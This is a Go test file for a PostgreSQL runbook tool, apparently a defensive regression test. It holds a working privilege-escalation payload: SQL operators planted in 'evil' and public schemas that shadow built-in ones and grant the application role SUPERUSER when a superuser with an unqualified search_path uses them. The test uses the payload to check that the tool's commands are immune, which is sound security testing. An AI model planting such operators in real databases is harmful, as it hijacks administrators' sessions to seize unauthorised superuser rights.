@@ -1,0 +1,180 @@
+package runbook_test
+
+import (
+	"fmt"
+	"testing"
+	"time"
+
+	"github.com/jackc/pgx/v5"
+
+	"github.com/pgrunbook/pgrunbook/dbtasks/internal/pgserver"
+	"github.com/pgrunbook/pgrunbook/dbtasks/internal/pgtest"
+	"github.com/pgrunbook/pgrunbook/dbtasks/runbook"
+)
+
+// planted are operators that run as whoever uses them, and make their owner a
+// superuser where that is one. Each is a better match than PostgreSQL's own for
+// the operands that the tool's statements have, or has its very name and operands.
+func planted(role string) []string {
+	steal := fmt.Sprintf(`IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN
+		EXECUTE 'ALTER ROLE %s SUPERUSER'; END IF;`, role)
+	statements := []string{"CREATE SCHEMA evil"}
+	for i, op := range []struct{ left, name, right, result, value string }{
+		{"int4", "<>", "int4", "bool", "NOT ($1 OPERATOR(pg_catalog.=) $2)"},
+		{"int4", "=", "int4", "bool", "$1 OPERATOR(pg_catalog.>=) $2 AND $1 OPERATOR(pg_catalog.<=) $2"},
+		{"oid", "=", "oid", "bool", "$1::int8 OPERATOR(pg_catalog.=) $2::int8"},
+		{"name", "=", "text", "bool", "$1::text OPERATOR(pg_catalog.=) $2"},
+		{"name", "=", "name", "bool", "$1::text OPERATOR(pg_catalog.=) $2::text"},
+		{"text", "=", "text", "bool", "NOT ($1 OPERATOR(pg_catalog.<>) $2)"},
+		{"text", "<>", "text", "bool", "NOT ($1 OPERATOR(pg_catalog.=) $2)"},
+		{"text", "~~", "text", "bool", "$1 OPERATOR(pg_catalog.~~*) $2"},
+		{"numeric", "*", "int4", "numeric", "$1 OPERATOR(pg_catalog.*) $2::numeric"},
+		{"numeric", "*", "numeric", "numeric", "$1 OPERATOR(pg_catalog./) (1 OPERATOR(pg_catalog./) $2)"},
+		{"timestamptz", "-", "timestamptz", "interval", "pg_catalog.age($1, $2)"},
+		{"timestamptz", "=", "timestamptz", "bool", "NOT ($1 OPERATOR(pg_catalog.<>) $2)"},
+	} {
+		for _, schema := range []string{"evil", "public"} {
+			statements = append(statements,
+				fmt.Sprintf("CREATE FUNCTION %s.f%d(%s, %s) RETURNS %s LANGUAGE plpgsql AS $$ BEGIN BEGIN %s EXCEPTION WHEN OTHERS THEN NULL; END; RETURN %s; END $$",
+					schema, i, op.left, op.right, op.result, steal, op.value),
+				fmt.Sprintf("CREATE OPERATOR %s.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %s.f%d)", schema, op.name, op.left, op.right, schema, i))
+		}
+	}
+	return statements
+}
+
+func TestAnApplicationsRoleDoesNotBecomeASuperuserByOperatorsOfItsOwn(t *testing.T) {
+	t.Parallel()
+	s := pgtest.Start(t, pgserver.DisposableOptions{MaxConnections: 30})
+	db := s.NewDatabase()
+	s.Exec(fmt.Sprintf("ALTER DATABASE %s OWNER TO %s", db.Name, db.Role))
+	admin := s.Admin("postgres") // held: no slot is left later
+	owner := pgtest.Connect(t, db.URL())
+	grant := pgtest.Connect(t, db.AdminURL())
+	if _, err := grant.Exec(ctx, "GRANT CREATE ON SCHEMA public TO PUBLIC"); err != nil {
+		t.Fatal(err)
+	}
+	for _, sql := range planted(db.Role) {
+		if _, err := owner.Exec(ctx, sql); err != nil {
+			t.Fatalf("%s: %v", sql, err)
+		}
+	}
+	for _, path := range []string{"evil, public, pg_catalog", `"$user", public`} {
+		if _, err := owner.Exec(ctx, fmt.Sprintf("ALTER DATABASE %s SET search_path = %s", db.Name, path)); err != nil {
+			t.Fatal(err)
+		}
+		// The attack works on whoever does not look after his search_path.
+		victim := pgtest.Connect(t, db.AdminURL())
+		if _, err := victim.Exec(ctx, "SELECT 1.5::numeric * 2::int4, 1::int4 <> 2::int4"); err != nil {
+			t.Fatal(err)
+		}
+		if !isSuperuser(t, admin, db.Role) {
+			t.Fatalf("search_path %s: what is planted does nothing to anybody", path)
+		}
+		_ = victim.Close(ctx)
+		if _, err := admin.Exec(ctx, "ALTER ROLE "+db.Role+" NOSUPERUSER"); err != nil {
+			t.Fatal(err)
+		}
+
+		// Once as the superuser in the application's own database, because its URL
+		// says so, and once through the reserved slots of a full server.
+		for _, env := range [][]string{
+			{"DATABASE_URL=" + s.URL(s.Superuser, s.SuperuserPassword, db.Name, "connection_limit=2")},
+			{"DATABASE_URL=" + db.URL("connection_limit=2"), "DBTASKS_ADMIN_URL=" + db.AdminURL()},
+		} {
+			d := deps(t, t.TempDir(), env...)
+			if len(env) == 2 {
+				db.Fill("leak")
+			}
+			for name, call := range map[string]func() error{
+				"db:who":              func() error { _, err := runbook.Who(ctx, d); return err },
+				"db:limits":           func() error { _, err := runbook.Limits(ctx, d, runbook.LimitsOptions{}); return err },
+				"db:cleanup -dry":     func() error { _, err := runbook.Cleanup(ctx, d, runbook.CleanupOptions{Dry: true}); return err },
+				"db:cleanup -idle=1h": func() error { _, err := runbook.Cleanup(ctx, d, runbook.CleanupOptions{Idle: time.Hour}); return err },
+				"db:cleanup -force -idle=1h": func() error {
+					_, err := runbook.Cleanup(ctx, d, runbook.CleanupOptions{Force: true, Idle: time.Hour})
+					return err
+				},
+				"db:monitor -once": func() error {
+					_, err := runbook.Monitor(ctx, d, runbook.MonitorOptions{Every: time.Second, Once: true}, func(runbook.MonitorSample) {})
+					return err
+				},
+			} {
+				if err := call(); err != nil {
+					t.Errorf("%s: %v", name, err)
+				}
+				if isSuperuser(t, admin, db.Role) {
+					t.Errorf("search_path %s: %s made the application's role a superuser", path, name)
+					if _, err := admin.Exec(ctx, "ALTER ROLE "+db.Role+" NOSUPERUSER"); err != nil {
+						t.Fatal(err)
+					}
+				}
+			}
+			d.Pool.Close()
+		}
+		if _, err := runbook.Cleanup(ctx, deps(t, t.TempDir(), "DATABASE_URL="+db.URL("connection_limit=2"), "DBTASKS_ADMIN_URL="+db.AdminURL()), runbook.CleanupOptions{}); err != nil {
+			t.Fatal(err)
+		}
+		owner = pgtest.Connect(t, db.URL())
+	}
+}
+
+func isSuperuser(t *testing.T, admin *pgx.Conn, role string) (super bool) {
+	t.Helper()
+	if err := admin.QueryRow(ctx, "SELECT rolsuper FROM pg_roles WHERE rolname = $1", role).Scan(&super); err != nil {
+		t.Fatal(err)
+	}
+	return super
+}
+
+func TestNoSettingOfTheRoleOrItsDatabaseIsInTheWay(t *testing.T) {
+	t.Parallel()
+	s := pgtest.Start(t, pgserver.DisposableOptions{MaxConnections: 30})
+	settings := map[string]string{
+		"DateStyle": "'German, DMY'", "IntervalStyle": "'sql_standard'", "TimeZone": "'Asia/Kathmandu'", "extra_float_digits": "'-15'",
+		"bytea_output": "'escape'", "statement_timeout": "'1ms'", "lock_timeout": "'1ms'", "default_transaction_read_only": "on",
+		"default_transaction_isolation": "serializable", "default_transaction_deferrable": "on", "client_min_messages": "debug5",
+		"standard_conforming_strings": "off", "idle_in_transaction_session_timeout": "'1ms'", "search_path": "''",
+	}
+	var version int
+	if err := s.Admin("postgres").QueryRow(ctx, "SELECT current_setting('server_version_num')::int").Scan(&version); err != nil {
+		t.Fatal(err)
+	}
+	if version >= 140000 {
+		settings["idle_session_timeout"] = "'200ms'"
+	}
+	for _, style := range []string{"'German, DMY'", "'SQL, DMY'", "'Postgres, MDY'"} {
+		settings["DateStyle"] = style
+		byRole, byDatabase := s.NewDatabase(), s.NewDatabase()
+		for name, value := range settings {
+			s.Exec(fmt.Sprintf("ALTER ROLE %s SET %s = %s", byRole.Role, name, value), fmt.Sprintf("ALTER DATABASE %s SET %s = %s", byDatabase.Name, name, value))
+		}
+		for _, db := range []pgtest.Database{byRole, byDatabase} {
+			t.Run(fmt.Sprint(style, db == byRole), func(t *testing.T) {
+				d := deps(t, t.TempDir(), "DATABASE_URL="+db.URL("connection_limit=2"))
+				if r, err := runbook.Test(ctx, d, runbook.TestOptions{}); err != nil || !r.OK {
+					t.Errorf("db:test: %+v, %v", r, err)
+				}
+				if _, err := runbook.Who(ctx, d); err != nil {
+					t.Errorf("db:who: %v", err)
+				}
+				l, err := runbook.Limits(ctx, d, runbook.LimitsOptions{})
+				if err != nil {
+					t.Errorf("db:limits: %v", err)
+				}
+				for _, to := range l.Timeouts {
+					if to.Name == "idle_session_timeout" && version >= 140000 && to.Value != 200*time.Millisecond {
+						t.Errorf("db:limits says %+v, not the application's own", to)
+					}
+				}
+				m, err := runbook.Monitor(ctx, d, runbook.MonitorOptions{Every: 500 * time.Millisecond, For: 2 * time.Second}, func(runbook.MonitorSample) {})
+				if err != nil || m.Lost > 0 || m.Logins != 1 || m.Samples < 3 {
+					t.Errorf("db:monitor: %+v, %v: the session was lost", m, err)
+				}
+				if r, err := runbook.Cleanup(ctx, d, runbook.CleanupOptions{Dry: true}); err != nil || !r.OK {
+					t.Errorf("db:cleanup: %+v, %v", r, err)
+				}
+			})
+		}
+	}
+}
